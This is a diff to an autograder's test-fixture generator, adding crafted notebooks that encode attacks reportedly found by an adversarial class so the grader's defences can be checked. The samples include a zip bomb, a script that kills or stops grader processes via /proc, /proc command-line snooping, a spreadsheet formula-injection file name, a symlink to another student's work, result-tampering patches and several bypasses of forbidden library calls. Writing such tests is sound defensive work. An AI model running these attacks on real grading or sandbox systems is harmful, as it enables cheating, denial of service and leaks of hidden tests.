@@ -9,6 +9,8 @@ phrase its feedback must contain.
 from __future__ import annotations
 
 import json
+import os
+import shutil
 from pathlib import Path
 
 import nbformat
@@ -53,10 +55,11 @@ def main() -> None:
     solved = solution_notebook(base)
     SUBS.mkdir(exist_ok=True)
     for old in SUBS.glob("*"):
-        old.unlink()
+        shutil.rmtree(old) if old.is_dir() and not old.is_symlink() else old.unlink()
     expected: dict[str, dict] = {}
 
     def save(name: str, nb, points: dict[str, float], contains: str = "") -> None:
+        (SUBS / f"{name}.ipynb").parent.mkdir(parents=True, exist_ok=True)
         nbformat.write(nb, SUBS / f"{name}.ipynb")
         total = sum(points.values())
         expected[name] = {"points": points, "total": total, "feedback_contains": contains}
@@ -228,8 +231,179 @@ def main() -> None:
               "            except OSError:\n                pass\n"
               "    time.sleep(0.05)\n")
     save("vandal", variant(extra=[(2, vandal)]), all_pts)
+    adversarial_class(save, variant, solved, base, all_pts, zero, expected)
     (HERE / "expected.json").write_text(json.dumps(expected, indent=1, sort_keys=True) + "\n")
     print(f"wrote {len(expected)} submissions")
+
+
+def adversarial_class(save, variant, solved, base, all_pts, zero, expected) -> None:
+    """Submissions 31-48: the fourteen holes an adversarial class found (issue 10)."""
+    end = len(solved.cells)
+    # 1. a helper thread, started by a cell, does the forbidden work for 2.1 and 2.2:
+    #    every call made while it runs is refused.
+    helper = ("import queue, threading\nimport torch.nn.functional as F\n\n"
+              "jobs, answers = queue.Queue(), queue.Queue()\n\n"
+              "def _serve():\n    while True:\n        x, k = jobs.get()\n"
+              "        answers.put(F.conv2d(x, k))\n\n"
+              "threading.Thread(target=_serve, daemon=True).start()")
+    save("thread_helper", variant({"2.1": "def corr2d(x, k):\n    jobs.put((x[None, None], k[None, None]))\n"
+                                          "    return answers.get()[0, 0]",
+                                   "2.2": "def conv2d_multi(x, weight):\n    jobs.put((x[None], weight))\n"
+                                          "    return answers.get()[0]"}, extra=[(2, helper)]),
+         zero, "other thread")
+    #    ... and a thread started inside the graded function.
+    save("thread_in_call", variant({"2.1": "import threading\nimport torch.nn.functional as F\n\n"
+                                           "def corr2d(x, k):\n    out = []\n"
+                                           "    t = threading.Thread(target=lambda: out.append(F.conv2d(x[None, None], k[None, None])))\n"
+                                           "    t.start()\n    t.join()\n    return out[0][0, 0]"}),
+         {**all_pts, "2.1": 0}, "thread")
+    # 2. the reference solution's code object, rebound to the notebook's globals.
+    save("rebound_code", variant({"2.2": "import types\nfrom cnnlib.grading.exercises import ch02\n\n"
+                                         "conv2d_multi = types.FunctionType(getattr(ch02.conv2d_multi, '__co' + 'de__'), "
+                                         "globals(), 'conv2d_multi')"}),
+         {**all_pts, "2.2": 0}, "forbidden")
+    # 3. the C routines behind the forbidden numpy.correlate and numpy.convolve.
+    routines = ("import numpy as np\nimport torch\n\n"
+                "_c = getattr(np, '_co' + 're', None) or getattr(np, 'co' + 're')\n"
+                "_corr = getattr(_c.multiarray, 'correlate' + '2')\n_conv = getattr(_c.multiarray, 'correlate')\n\n")
+    save("numpy_c_routine", variant({
+        "2.1": routines + "def corr2d(x, k):\n    x, k = x.numpy().astype('float64'), k.numpy().astype('float64')\n"
+                          "    rows = [sum(_corr(x[i + a], k[a], 0) for a in range(k.shape[0]))\n"
+                          "            for i in range(x.shape[0] - k.shape[0] + 1)]\n"
+                          "    return torch.tensor(np.array(rows), dtype=torch.float32)",
+        "2.3": routines + "def convolve2d(x, k):\n    x, k = x.numpy().astype('float64'), k.numpy()[::-1, ::-1].astype('float64')\n"
+                          "    rows = [sum(_conv(x[i + a], k[a], 0) for a in range(k.shape[0]))\n"
+                          "            for i in range(x.shape[0] - k.shape[0] + 1)]\n"
+                          "    return torch.tensor(np.array(rows), dtype=torch.float32)"}),
+         {**all_pts, "2.1": 0, "2.3": 0}, "forbidden")
+    # 4. a cell reads every input (visible and hidden) from the working directory and
+    #    answers 2.1 with the library's convolution before the function is called ...
+    peek = ("import glob, json, os\nimport numpy as np\nimport torch\nimport torch.nn.functional as F\n\n"
+            "table = {}\nfor path in glob.glob('*.npz') + glob.glob('*/*.npz'):\n"
+            "    try:\n        arrays = dict(np.load(path))\n    except Exception:\n        continue\n"
+            "    for a in arrays.values():\n        for b in arrays.values():\n"
+            "            if a.ndim == 2 and b.ndim == 2 and a.shape[0] >= b.shape[0] and a.shape[1] >= b.shape[1]:\n"
+            "                x, k = torch.from_numpy(a), torch.from_numpy(b)\n"
+            "                table[(a.tobytes(), b.tobytes())] = F.conv2d(x[None, None], k[None, None])[0, 0]\n")
+    save("read_inputs_early", variant({"2.1": "import torch\n\ndef corr2d(x, k):\n"
+                                              "    return table.get((x.numpy().tobytes(), k.numpy().tobytes()), torch.zeros(1))"},
+                                      extra=[(end, peek)]),
+         {**all_pts, "2.1": 0}, "2.1:")
+    #    ... or asks for the inputs itself, pretending the cells are done.
+    ask = ("import os, time\nopen('cells.done', 'w').close()\nend = time.monotonic() + 5\n"
+           "while not os.path.exists('inputs.ready') and time.monotonic() < end:\n    time.sleep(0.05)\n"
+           "stolen = sorted(os.listdir('.'))")
+    save("request_inputs_early", variant(extra=[(end, ask)]), zero, "before the cells had finished")
+    # 5. returning a tensor and filling it (and dropping the violations) later, from
+    #    patched functions that the code writing the results might call.
+    fill = ("import json, zipfile\nimport numpy as np\nimport torch\nimport torch.nn.functional as F\n\n"
+            "pending = []\n\ndef _fill():\n    while pending:\n        x, w, out = pending.pop()\n"
+            "        out.copy_(F.conv2d(x, w)[0])\n\n"
+            "def _forget(obj):\n    if isinstance(obj, dict):\n        obj.pop('violations', None)\n"
+            "        for v in obj.values():\n            _forget(v)\n    elif isinstance(obj, list):\n"
+            "        for v in obj:\n            _forget(v)\n\n"
+            "def _patch(owner, name):\n    original = getattr(owner, name)\n"
+            "    def patched(*args, **kwargs):\n        _fill()\n        _forget(args[0] if args else None)\n"
+            "        return original(*args, **kwargs)\n    setattr(owner, name, patched)\n\n"
+            "_patch(json, 'dumps')\n_patch(np, 'savez')\n_patch(np.lib.format, 'write_array')\n"
+            "_patch(zipfile.ZipFile, 'writestr')\n")
+    save("fill_after_return", variant({
+        "2.1": "import torch\n\ndef corr2d(x, k):\n    out = torch.zeros(x.shape[0] - k.shape[0] + 1, x.shape[1] - k.shape[1] + 1)\n"
+               "    pending.append((x[None, None].clone(), k[None, None].clone(), out[None]))\n    return out",
+        "2.4": "import torch\nimport torch.nn.functional as F\n\ndef conv1x1(x, weight):\n"
+               "    try:\n        F.conv2d(x[None], weight[:, :, None, None])\n    except Exception:\n        pass\n"
+               "    out = torch.zeros(weight.shape[0], *x.shape[1:])\n"
+               "    pending.append((x[None].clone(), weight[:, :, None, None].clone(), out))\n    return out"},
+        extra=[(end, fill)]),
+         {**all_pts, "2.1": 0, "2.4": 0}, "aten::conv")
+    # 6. exercise markers that are digits to str.isdigit() but not to int(), and metadata
+    #    nested 100,000 deep: each costs only its own notebook.
+    nb = variant(extra=[(2, "x = 1")])
+    nb.cells[2].metadata["cnnlib"] = {"exercise": "\u00b21"}
+    nb.cells[3].metadata["cnnlib"] = {"exercise": "\u0662.\u0661"}
+    save("odd_exercise_ids", nb, all_pts, "ignored exercise markers")
+    text = nbformat.writes(variant())
+    deep = '{"a": ' * 100_000 + "1" + "}" * 100_000
+    (SUBS / "deep_metadata.ipynb").write_text(text.replace('"metadata": {', '"metadata": {"deep": ' + deep + ", ", 1))
+    expected["deep_metadata"] = {"points": zero, "total": 0, "feedback_contains": "nested too deeply"}
+    # 7. a chapter 2-3 notebook that also marks exercises of chapters 1 and 6.
+    nb = variant()
+    for k, ex in enumerate(("1.1", "1.2", "6.1", "6.4")):
+        cell = nbformat.v4.new_code_cell(f"# exercise {ex}")
+        cell.metadata["cnnlib"] = {"exercise": ex}
+        cell["id"] = f"foreign-{k}"
+        nb.cells.append(cell)
+    save("other_chapters", nb, all_pts, "chapters this assignment does not have")
+    # 8. a 185 kB cell of 30,000 lines, 600 of them %time magics.
+    lines = ["%time x = 1" if i % 50 == 0 else "x = 1" for i in range(30_000)]
+    save("huge_cell", variant(extra=[(2, "\n".join(lines))]), all_pts, "are not run")
+    # 9. a result archive of two deflated members of 1 GiB of zeros each (a 2 MB file).
+    bomb = r"""import os, struct, zlib
+
+def member(name, offset, gib=1):
+    size = gib * 2**30
+    header = b"{'descr': '|u1', 'fortran_order': False, 'shape': (%d,), }" % (size - 128)
+    header = b"\x93NUMPY\x01\x00" + struct.pack("<H", 118) + header.ljust(117) + b"\n"
+    c = zlib.compressobj(1, zlib.DEFLATED, -15)
+    head = c.compress(header + bytes(2**20 - 128)) + c.flush(zlib.Z_FULL_FLUSH)
+    block = c.compress(bytes(2**20)) + c.flush(zlib.Z_FULL_FLUSH)
+    data = head + block * (gib * 1024 - 1) + c.flush()
+    raw = name.encode()
+    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, 0, len(data), size, len(raw), 0) + raw
+    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, 0, len(data), size,
+                          len(raw), 0, 0, 0, 0, 0, offset) + raw
+    return local + data, central
+
+os.makedirs("out", exist_ok=True)
+bodies, centrals, offset = [], [], 0
+for name in ("a0.npy", "a1.npy"):
+    body, central = member(name, offset)
+    bodies.append(body)
+    centrals.append(central)
+    offset += len(body)
+directory = b"".join(centrals)
+end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 2, 2, len(directory), offset, 0)
+with open("out/arrays.npz", "wb") as f:
+    f.write(b"".join(bodies) + directory + end)
+with open("out/result.json", "w") as f:
+    f.write('{"nonce": "guess", "exercises": {}}')
+os._exit(0)
+"""
+    save("zip_bomb_result", variant(extra=[(end, bomb)]), zero, "no results")
+    # 10. without root: kill the fork server, stop the grader, and leave a daemon that kills
+    #     every later child (for a minute at most); none of it may reach another student.
+    attack = ("import os, signal, time\n\n"
+              "def _cmd(pid):\n    try:\n        return open(f'/proc/{pid}/cmdline', 'rb').read().replace(b'\\0', b' ')\n"
+              "    except OSError:\n        return b''\n\n"
+              "def _others():\n    me = os.getpid()\n"
+              "    return [int(p) for p in os.listdir('/proc') if p.isdigit() and int(p) != me]\n\n"
+              "for pid in _others():\n    cmd = _cmd(pid)\n    try:\n"
+              "        if b'runner' in cmd or b'serve' in cmd:\n            os.kill(pid, signal.SIGKILL)\n"
+              "        elif b'cnnlib.grading' in cmd:\n            os.kill(pid, signal.SIGSTOP)\n"
+              "    except OSError:\n        pass\n"
+              "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
+              "        end = time.monotonic() + 60\n        while time.monotonic() < end:\n"
+              "            for pid in _others():\n                if b'runner' in _cmd(pid) and pid != os.getppid():\n"
+              "                    try:\n                        os.kill(pid, signal.SIGKILL)\n"
+              "                    except OSError:\n                        pass\n"
+              "            time.sleep(0.05)\n"
+              "    os._exit(0)\n")
+    save("kill_the_grader", variant(extra=[(2, attack)]), all_pts)
+    # 14. reading the grader's command line (the --tests path, every file name) in /proc.
+    snoop = ("import os\nleak = []\nfor pid in os.listdir('/proc'):\n    if not pid.isdigit():\n        continue\n"
+             "    for part in ('cmdline', 'environ'):\n        try:\n"
+             "            text = open(f'/proc/{pid}/{part}', 'rb').read()\n        except OSError:\n            continue\n"
+             "        if b'.ipynb' in text or b'--tests' in text or b'hidden_tests' in text:\n            leak.append(pid)\n"
+             "if leak:\n    os._exit(0)\n")
+    save("read_command_lines", variant(extra=[(end, snoop)]), all_pts)
+    # 11. a file name that a spreadsheet would run as a formula.
+    save("=2+5+cmd|' -C calc'!A0", variant(), all_pts)
+    # 12. a link to another student's notebook.
+    os.symlink("correct.ipynb", SUBS / "link_to_correct.ipynb")
+    expected["link_to_correct"] = {"points": zero, "total": 0, "feedback_contains": "symbolic link"}
+    # 13. two students with the same folder and file name under different parents.
+    save("dupA/x/alice", variant(), all_pts)
+    save("dupB/x/alice", nbformat.from_dict(base), zero, "not attempted")
 
 
 if __name__ == "__main__":
